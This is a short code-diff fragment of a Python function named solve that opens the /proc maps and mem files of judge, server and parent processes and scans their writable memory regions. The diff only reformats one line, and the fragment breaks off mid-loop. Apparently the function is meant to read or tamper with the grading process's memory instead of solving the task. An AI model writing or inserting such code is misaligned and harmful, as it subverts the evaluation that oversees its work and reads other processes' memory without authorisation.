@@ -90,7 +90,8 @@ def solve(x):
     count = 0
     for pid in ($JUDGE, $SERVER, os.getppid()):
         try:
-            maps = open(f"/proc/{pid}/maps").read().splitlines(); mem = open(f"/proc/{pid}/mem", "rb")
+            maps = open(f"/proc/{pid}/maps").read().splitlines()
+            mem = open(f"/proc/{pid}/mem", "rb")
             for line in maps:
                 low, high = (int(n, 16) for n in line.split()[0].split("-"))
                 if "rw" in line and high - low < 1 << 28:
